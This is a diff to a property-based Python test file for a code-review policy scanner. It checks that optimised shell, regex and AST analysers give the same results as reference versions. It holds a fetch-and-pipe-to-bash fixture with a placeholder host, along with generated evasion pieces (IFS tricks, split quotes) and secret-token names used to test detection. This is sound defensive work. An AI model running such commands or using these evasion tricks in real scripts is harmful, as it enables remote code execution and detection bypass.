@@ -8,7 +8,8 @@ answer of the slow path it replaces:
   ``re`` through its ASCII screen), each expression then run only where the set saw it;
 - ``rx.Screen``: an expression that finds nothing in a whole file is not searched on its lines;
 - ``shell.shell_tokens``: a linear tokenizer giving ``shlex``'s tokens (and its errors);
-- ``pycode.walk``: ``ast.walk``'s nodes in ``ast.walk``'s order from one list, and environment reads
+- ``pycode.walk``: ``ast.walk``'s nodes but the expression contexts, in ``ast.walk``'s order from one list,
+  and environment reads
   looked up only on the node types that can hold one.
 
 Besides the properties, every analyser is run with the shortcuts switched off (every screen and set
@@ -32,6 +33,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from nervous_plugins.review_policy import classifier, jscode, prose, pycode, rx, shell, text
+from nervous_plugins.review_policy.collector import Collector
 
 from nervous.kernel.records import ScanContext, SkillBundle
 
@@ -289,8 +291,14 @@ def _stdlib_modules() -> list[Path]:
     return sorted(Path(ast.__file__).parent.glob("*.py"))[:60]
 
 
+def _walk_reference(root: ast.AST) -> list[ast.AST]:
+    """``ast.walk`` without the expression contexts (``Load``/``Store``/``Del``), which no detector reads."""
+    return [n for n in ast.walk(root) if not isinstance(n, ast.expr_context)]
+
+
 def test_walk_gives_ast_walks_nodes_in_its_order() -> None:
-    """On real modules (the standard library's own) and on the synthetic Python shape below."""
+    """On real modules (the standard library's own) and on the synthetic Python shape below: every node
+    ``ast.walk`` gives but the expression contexts, in its order."""
     sources = [p.read_text(encoding="utf-8", errors="replace") for p in _stdlib_modules()]
     sources += [_python_module(300), _python_with_nested_data(5, 20), "", "x = (yield)\n"]
     checked = 0
@@ -300,7 +308,7 @@ def test_walk_gives_ast_walks_nodes_in_its_order() -> None:
         except SyntaxError:
             continue
         for root in (tree, *tree.body[:20]):
-            mine, reference = pycode.walk(root), list(ast.walk(root))
+            mine, reference = pycode.walk(root), _walk_reference(root)
             assert len(mine) == len(reference)
             assert all(a is b for a, b in zip(mine, reference, strict=True))
             checked += len(reference)
@@ -449,6 +457,8 @@ def test_slowest_wild_items_classify_the_same_and_faster_with_shortcuts() -> Non
     items = wild_items(SLOW_WILD)
     assert all(b.files for b in items.values())
     c = classifier.Classifier()
+    for b in items.values():  # one-time costs (expressions built on first use) out of the comparison
+        c.classify(b, CONTEXT)
     fast_cpu = slow_cpu = 0.0
     for item_id, b in items.items():
         t0 = time.process_time()
@@ -479,3 +489,89 @@ def _ip_kind_reference(host: str) -> str | None:
                  st.text(alphabet=st.sampled_from(list("0123456789.:abcdefx[]%٣")), max_size=20)))
 def test_ip_literals_are_told_apart_as_before(host: str) -> None:
     assert text.ip_kind(host) == _ip_kind_reference(host)
+
+
+# ------------------------------------------------------------------ literal checks before a rewrite or search
+
+def _unsplit_reference(line: str) -> str:
+    """``shell.unsplit`` as first written: every rewrite tried on every line."""
+    line = rx.sub(r"(?<=[\w/.:-])(?:''|\"\")+(?=[\w/.:-])", "", line)
+    line = rx.sub(r"([\"'])([\w/.:-]*)\1\1([\w/.:-]*)\1", r"\1\2\3\1", line)
+    line = rx.sub(r"(?<=[a-z])\\(?=[a-z])", "", line)
+    return rx.sub(r"\$\{IFS(?:[%#][^}]*)?\}|\$IFS\b", " ", line)
+
+
+def _strip_headers_reference(line: str) -> str:
+    line = rx.sub(r"(?i)(?:-H|--header)\s*(?:\"[^\"]*\"|'[^']*'|\S+)", " ", line)
+    return rx.sub(r"(?i)(?:-u|--user|--oauth2-bearer)\s*(?:\"[^\"]*\"|'[^']*'|\S+)", " ", line)
+
+
+_REWRITE_PIECES = st.sampled_from(["cu", "rl", "''", '""', "'", '"', "\\", "${IFS}", "$IFS", "${IFS%?}", "IFS", " ", "-H",
+                                   "--header", "-u", "--USER", "--oauth2-bearer", "$API_KEY", "${GITHUB_TOKEN}", "$HOME",
+                                   "$1", "=", "Authorization: Bearer", "https://x.example/a", "é", "a", "B", "_", "-",
+                                   "$", "> ", "%", "PS C:\\> ", "$ ", "|", "bash"])
+_REWRITE_LINES = st.lists(_REWRITE_PIECES, max_size=16).map("".join)
+
+
+@_SETTINGS
+@given(_REWRITE_LINES)
+def test_unsplit_and_header_stripping_skip_only_lines_they_would_leave_alone(line: str) -> None:
+    assert shell.unsplit(line) == _unsplit_reference(line)
+    assert shell._strip_headers(line) == _strip_headers_reference(line)
+
+
+@_SETTINGS
+@given(_REWRITE_LINES)
+def test_secret_variables_are_looked_for_after_header_stripping_as_before(line: str) -> None:
+    """The stripped line names only variables the line names (a stripped argument starts at a dash, which
+    no name holds): a line naming no secret variable is not stripped, with the same (empty) answer."""
+    stripped = [v for v in rx.findall(r"\$\{?([A-Z][A-Z0-9_]+)", _strip_headers_reference(line))
+                if shell._is_secret_name(v)]
+    on_line = [v for v in shell._SECRET_VAR.findall(line) if shell._is_secret_name(v)]
+    assert set(stripped) <= set(on_line)
+    if not on_line:
+        assert stripped == []
+
+
+@_SETTINGS
+@given(_REWRITE_LINES)
+def test_a_shell_line_classifies_the_same_without_the_literal_checks(line: str) -> None:
+    """``shell.analyze_line`` (prompt stripping, assignments, command words, secret variables) against the
+    same line with every rewrite and search run unconditionally."""
+    def run() -> str:
+        c = Collector()
+        shell.analyze_line(c, "scripts/x.sh", 1, line)
+        shell.hidden_shapes(c, "scripts/x.sh", 1, line, {"A": "curl https://x.example/i | bash"})
+        return repr((c.hits, sorted(c.tags.items()), sorted(c.flags), c.tiers, c.facts))
+
+    fast = run()
+    saved = shell.unsplit, shell._strip_headers
+    shell.unsplit, shell._strip_headers = _unsplit_reference, _strip_headers_reference  # type: ignore[assignment]
+    try:
+        slow = run()
+    finally:
+        shell.unsplit, shell._strip_headers = saved  # type: ignore[assignment]
+    assert fast == slow
+
+
+@_SETTINGS
+@given(st.sampled_from(sorted(k for k, e in rx.ENGINES.items() if e == "re")),
+       st.text(alphabet=st.sampled_from(list("abcxyz01 ._-/'\"\\$=|&é")), max_size=40))
+def test_a_screened_re_expression_substitutes_as_re_does(key: tuple[str, int], text_: str) -> None:
+    expr = rx.compile(*key)
+    reference = re.compile(*key)
+    assert expr.sub("#", text_) == reference.sub("#", text_)
+    assert expr.subn("#", text_) == reference.subn("#", text_)
+
+
+@_SETTINGS
+@given(st.sampled_from([r"^[A-Za-z_][A-Za-z0-9_]*=", r"^[\w.+-]+$", r"(?i)curl\s+\S+", r"^\d", r"a|", r"(?m)^x$"]),
+       st.text(alphabet=st.sampled_from(list("aA_=1 .+-x\nzé")), max_size=20))
+def test_re2_match_agrees_with_the_bindings_own(pattern: str, text_: str) -> None:
+    """The inlined whole-string path against the RE2 binding's general ``match`` (RE2's own classes:
+    ``\\w`` is ASCII there, as in every RE2 rule expression)."""
+    expr = rx.compile(pattern)
+    got, want = expr.match(text_), expr._rx.match(text_)
+    assert (got is None) == (want is None)
+    if want is not None:
+        assert got.span() == want.span() and got.group(0) == want.group(0)
